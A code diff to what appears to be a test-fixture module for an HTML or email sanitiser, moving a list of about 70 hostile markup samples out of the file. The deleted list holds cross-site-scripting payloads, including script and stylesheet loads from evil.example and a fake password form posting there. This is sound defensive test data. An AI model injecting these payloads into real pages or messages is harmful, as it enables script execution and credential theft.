@@ -5,6 +5,8 @@ import random
 from collections.abc import Iterator
 from dataclasses import dataclass
 
+from tests.fakes.hostile_markup import MARKUP
+
 KIB = 1024
 HEAD = b"From: Ann <ann@example.org>\r\nTo: help@pumps.test\r\nMessage-ID: <h@example.org>\r\n"
 GOOD = (
@@ -365,76 +367,3 @@ def markup() -> Iterator[Hostile]:
     }
     for name, source in repeated.items():
         yield Hostile(name, _plain(source, b"Content-Type: text/html; charset=utf-8"))
-
-
-MARKUP = [
-    b"<script>alert(1)</script>",
-    b"<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-    b"<img src=x onerror=alert(1)>",
-    b"<img src='http://tracker.example/p.gif?u=1' width=1>",
-    b"<svg onload=alert(1)>",
-    b"<svg><script>alert&#40;1)</script>",
-    b"<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
-    b"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-    b"<math><mi xlink:href='data:x,<script>alert(1)</script>'>",
-    b"<a href='javascript:alert(1)'>x</a>",
-    b"<a href='  java\nscript:alert(1)'>x</a>",
-    b"<a href='&#106;avascript:alert(1)'>x</a>",
-    b"<a href='JaVaScRiPt:alert(1)'>x</a>",
-    b"<a href='data:text/html,<script>alert(1)</script>'>x</a>",
-    b"<a href='vbscript:msgbox(1)'>x</a>",
-    b"<a href='\x01javascript:alert(1)'>x</a>",
-    b'<a href="http://x.org" onclick="alert(1)" style=\'x\'>x</a>',
-    b"<iframe src='javascript:alert(1)'></iframe>",
-    b"<iframe srcdoc='<script>alert(1)</script>'>",
-    b"<object data='data:text/html;base64,PHNjcmlwdD4='></object>",
-    b"<embed src='//evil.example/x.swf'>",
-    b"<applet code=x></applet>",
-    b"<form action='//evil.example'><input name=password><button>Log in</button></form>",
-    b"<input autofocus onfocus=alert(1)>",
-    b"<select autofocus onfocus=alert(1)><option>x",
-    b"<textarea autofocus onfocus=alert(1)></textarea>",
-    b"<textarea><img src=x onerror=alert(1)></textarea>",
-    b"<details open ontoggle=alert(1)>",
-    b"<video><source onerror=alert(1)></video>",
-    b"<audio src=x onerror=alert(1)>",
-    b"<marquee onstart=alert(1)>x</marquee>",
-    b"<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
-    b"<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
-    b"<base href='//evil.example/'><a href=x>x</a>",
-    b"<link rel=stylesheet href='//evil.example/x.css'>",
-    b"<style>@import '//evil.example/x.css'; body{background:url(javascript:alert(1))}</style>",
-    b"<style><img src='</style><img src=x onerror=alert(1)>'>",
-    b"<div style='background:url(//evil.example/x)'>x</div>",
-    b"<div style='position:fixed;top:0;left:0;width:100%;height:100%'>x</div>",
-    b"<div style='width:expression(alert(1))'>x</div>",
-    b"<body onload=alert(1)>x</body>",
-    b"<body background='//evil.example/x.gif'>x",
-    b"<table background='//evil.example/x.gif'><td background='//evil.example/y.gif'>x",
-    b"<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    b"<template><script>alert(1)</script></template>",
-    b"<xmp><script>alert(1)</script></xmp>",
-    b"<title><img src=x onerror=alert(1)></title>",
-    b"<!--><script>alert(1)</script>-->",
-    b"<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
-    b"<![CDATA[<script>alert(1)</script>]]>",
-    b"<?xml version='1.0'?><script>alert(1)</script>",
-    b"<<script>alert(1)//<</script>",
-    b"<scr<script>ipt>alert(1)</scr</script>ipt>",
-    b"<img/src/onerror=alert(1)>",
-    b'<img src="x` `<script>alert(1)</script>"` `>',
-    b'<img """><script>alert(1)</script>">',
-    b"<a href='http://x.org' id=location name=cookie class=x>clobber</a>",
-    b"<p id=x onmouseover='alert(1)' data-x=1>x",
-    b"\xff\xfe<script>alert(1)</script>",
-    b"&lt;script&gt;alert(1)&lt;/script&gt;",
-    b"<plaintext><script>alert(1)</script>",
-    b"<isindex action=javascript:alert(1) type=image>",
-    b"<x onclick=alert(1)>custom</x>",
-    b"<a href=tel:+49123>call</a> <a href=mailto:a@b.c>write</a> <a href=file:///etc/passwd>read</a>",
-    b"<td rowspan=99999999 colspan=99999999>huge",
-    b"<ol start=99999999999999999999><li>x",
-    b"<frameset onload=alert(1)><frame src=//evil.example>",
-    b"<bgsound src='javascript:alert(1)'><layer src='//evil.example'>",
-    b"<p>fine</p><script",
-]
